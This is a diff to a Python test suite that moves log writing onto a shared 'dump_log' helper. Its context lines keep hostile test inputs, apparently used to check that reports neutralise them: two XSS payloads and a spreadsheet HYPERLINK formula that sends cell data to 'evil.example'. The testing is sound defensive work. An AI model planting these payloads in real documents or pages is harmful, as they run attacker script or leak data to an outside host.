@@ -10,6 +10,8 @@ import xml.etree.ElementTree as ET
 from html.parser import HTMLParser
 from pathlib import Path
 
+from clgate.documents import dump_log
+
 SCRIPT = "<script>alert('x')</script>"
 IMG = "<img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -55,7 +57,7 @@ def test_hostile_class_names_are_inert_in_every_report(tmp_path, forgetful_log, 
         names=HOSTILE,
     )
     log_path = tmp_path / "log.json"
-    hostile.dump(log_path)
+    dump_log(hostile, log_path)
     policy = tmp_path / "policy.yaml"
     policy.write_text(
         json.dumps(
@@ -98,7 +100,7 @@ def test_hostile_class_names_are_inert_in_every_report(tmp_path, forgetful_log, 
 
 def test_decision_json_carries_its_hash(tmp_path, forgetful_log):
     log_path = tmp_path / "log.json"
-    forgetful_log().dump(log_path)
+    dump_log(forgetful_log(), log_path)
     policy = tmp_path / "policy.yaml"
     policy.write_text("name: h\nrules:\n  - {metric: mica, floor: 0.1}\n")
     out = tmp_path / "out"
